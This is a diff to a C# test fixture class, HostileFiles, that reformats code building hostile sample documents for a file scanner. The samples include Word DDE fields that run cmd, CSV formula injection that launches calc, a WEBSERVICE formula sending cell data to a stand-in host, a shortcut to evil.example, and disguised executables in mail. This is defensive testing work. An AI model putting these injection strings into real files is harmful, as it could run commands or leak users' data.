@@ -18,7 +18,14 @@ internal static class HostileFiles
 
     /// <summary>All of them, by name.</summary>
     public static IReadOnlyDictionary<string, (ProblemCode Code, byte[] Bytes)> All { get; } =
-        Pdfs().Concat(PdfsByTheirTables()).Concat(Packages()).Concat(PackagesByContent()).Concat(Pictures()).Concat(Texts()).Concat(Others()).Concat(Mails())
+        Pdfs()
+            .Concat(PdfsByTheirTables())
+            .Concat(Packages())
+            .Concat(PackagesByContent())
+            .Concat(Pictures())
+            .Concat(Texts())
+            .Concat(Others())
+            .Concat(Mails())
             .ToDictionary(f => f.Name, f => (f.Code, f.Bytes));
 
     private static IEnumerable<(string Name, ProblemCode Code, byte[] Bytes)> Pdfs()
@@ -88,17 +95,35 @@ internal static class HostileFiles
         foreach (var (name, field) in new[]
         {
             ("in CDATA", "<w:instrText><![CDATA[ DDEAUTO cmd \"/c\" ]]></w:instrText>"),
-            ("behind a long one", $"<w:instrText> SEQ a {new string('b', 1_000_001)}</w:instrText>{Mark("end")}{Mark("begin")}<w:instrText> DDE cmd</w:instrText>"),
+                (
+                    "behind a long one",
+                    $"<w:instrText> SEQ a {new string('b', 1_000_001)}</w:instrText>{Mark("end")}{Mark("begin")}<w:instrText> DDE cmd</w:instrText>"
+                ),
             ("that another field writes", $"{Mark("begin")}<w:instrText> QUOTE 68 68 69 </w:instrText>{Mark("end")}"),
             ("that fetches a picture", "<w:instrText> INCLUDEPICTURE \"https://collect.example/p.png\" </w:instrText>"),
-        })
-            yield return ($"docx with a field {name}", ProblemCode.F11,
-                Package.Docx("x").Part("word/document.xml", $"""<w:document xmlns:w="urn:w">{Mark("begin")}{field}{Mark("end")}</w:document>""").Bytes());
-        yield return ("docx whose document is called otherwise", ProblemCode.F11,
-            Package.Docx("x").Part("word/document.dat", """<w:document xmlns:w="urn:w"><w:instrText> DDE cmd</w:instrText></w:document>""").Bytes());
-        yield return ("odt locked with a password", ProblemCode.F13,
-            Package.Odt("x").Part("content.xml", [9, 200, 3, 77]).Part("META-INF/manifest.xml",
-                """<m:manifest xmlns:m="urn:m"><m:encryption-data/></m:manifest>""").Bytes());
+            })
+            yield return (
+                $"docx with a field {name}",
+                ProblemCode.F11,
+                Package
+                    .Docx("x")
+                    .Part("word/document.xml", $"""<w:document xmlns:w="urn:w">{Mark("begin")}{field}{Mark("end")}</w:document>""")
+                    .Bytes());
+        yield return (
+            "docx whose document is called otherwise",
+            ProblemCode.F11,
+            Package
+                .Docx("x")
+                .Part("word/document.dat", """<w:document xmlns:w="urn:w"><w:instrText> DDE cmd</w:instrText></w:document>""")
+                .Bytes());
+        yield return (
+            "odt locked with a password",
+            ProblemCode.F13,
+            Package
+                .Odt("x")
+                .Part("content.xml", [9, 200, 3, 77])
+                .Part("META-INF/manifest.xml", """<m:manifest xmlns:m="urn:m"><m:encryption-data/></m:manifest>""")
+                .Bytes());
     }
 
     private static string Mark(string type) => $"""<w:fldChar w:fldCharType="{type}"/>""";
@@ -200,9 +225,17 @@ internal static class HostileFiles
         yield return ("shortcut to the web", ProblemCode.F12, "[InternetShortcut]\r\nURL=file://evil.example/x\r\n"u8.ToArray());
         yield return ("csv that starts a program", ProblemCode.F11, "a,b\n=cmd|'/c calc'!A0,2\n"u8.ToArray());
         yield return ("csv that starts a program, quoted", ProblemCode.F11, "a;b\n\"+cmd|'/c calc'!A0\";2\n"u8.ToArray());
-        yield return ("csv that starts a program at the end of a piece", ProblemCode.F11,
+        yield return (
+            "csv that starts a program at the end of a piece",
+            ProblemCode.F11,
             Encoding.ASCII.GetBytes($"a,b\n{new string('x', (64 * 1024) - 8)}\n=cmd|'/c calc'!A0\n"));
-        foreach (var formula in new[] { "=WEBSERVICE(\"https://collect.example/\"&B1)", "+HYPERLINK(\"https://x.example\",\"a\")", "=DDE(\"cmd\";\"/c\")" })
+        foreach (
+            var formula in new[]
+            {
+                "=WEBSERVICE(\"https://collect.example/\"&B1)",
+                "+HYPERLINK(\"https://x.example\",\"a\")",
+                "=DDE(\"cmd\";\"/c\")",
+            })
             yield return ($"csv with {formula[1..5]}", ProblemCode.F11, Encoding.ASCII.GetBytes($"Name,Phone\r\nA,{formula}\r\n"));
         yield return ("json cut off", ProblemCode.F18, "{\"state\":\"XAA\",\"telepho"u8.ToArray());
         yield return ("json with two values for one name", ProblemCode.F16, "{\"a\":1,\"b\":{\"a\":1},\"a\":2}"u8.ToArray());
@@ -237,19 +270,37 @@ internal static class HostileFiles
         yield return ("mail with a program", ProblemCode.F12, Mail("octet-stream", [.. "MZ"u8, .. new byte[50]]));
         yield return ("mail with a program by name", ProblemCode.F12, Mail("octet-stream; name=\"note.pdf.exe\"", "x"u8.ToArray()));
         yield return ("mail with an archive", ProblemCode.F14, Mail("zip", new Package().Part("a", "x").Bytes()));
-        yield return ("mail with macros", ProblemCode.F11,
+        yield return (
+            "mail with macros",
+            ProblemCode.F11,
             Mail("octet-stream", Package.Docx("x").Part("word/vbaProject.bin", [1]).Bytes()));
-        yield return ("mail in a mail in a mail in a mail", ProblemCode.F15,
+        yield return (
+            "mail in a mail in a mail in a mail",
+            ProblemCode.F15,
             Enumerable.Range(0, 4).Aggregate("x"u8.ToArray(), (inner, _) => Mail("octet-stream", inner)));
-        yield return ("mail with a program in quoted-printable", ProblemCode.F12, Mail("octet-stream", "=4D=5A=90=00=03=00=00=00"u8.ToArray(), "quoted-printable"));
+        yield return (
+            "mail with a program in quoted-printable",
+            ProblemCode.F12,
+            Mail("octet-stream", "=4D=5A=90=00=03=00=00=00"u8.ToArray(), "quoted-printable"));
         yield return ("mail with a program as it is", ProblemCode.F12, Mail("octet-stream", "#!/bin/sh\nexit"u8.ToArray(), "8bit"));
-        yield return ("mail with a program behind a comment", ProblemCode.F12,
+        yield return (
+            "mail with a program behind a comment",
+            ProblemCode.F12,
             Mail("octet-stream", Encoding.ASCII.GetBytes(Convert.ToBase64String([.. "MZ"u8, .. new byte[50]])), "(as usual) base64"));
-        yield return ("mail with a program between other letters", ProblemCode.F12,
-            Mail("octet-stream", Encoding.ASCII.GetBytes($"TV\r\n!!\r\n{Convert.ToBase64String([.. "MZ"u8, .. new byte[50]])[2..]}"), "base64"));
-        yield return ("mail with a program by a name in pieces", ProblemCode.F12,
+        yield return (
+            "mail with a program between other letters",
+            ProblemCode.F12,
+            Mail(
+                "octet-stream",
+                Encoding.ASCII.GetBytes($"TV\r\n!!\r\n{Convert.ToBase64String([.. "MZ"u8, .. new byte[50]])[2..]}"),
+                "base64"));
+        yield return (
+            "mail with a program by a name in pieces",
+            ProblemCode.F12,
             Mail("octet-stream; name*0=\"note.e\"; name*1=\"xe\"", "x"u8.ToArray()));
-        yield return ("mail with broken base64", ProblemCode.F18,
+        yield return (
+            "mail with broken base64",
+            ProblemCode.F18,
             Encoding.ASCII.GetBytes(Head + "Content-Transfer-Encoding: base64\r\n\r\n%%%\r\n"));
     }
 
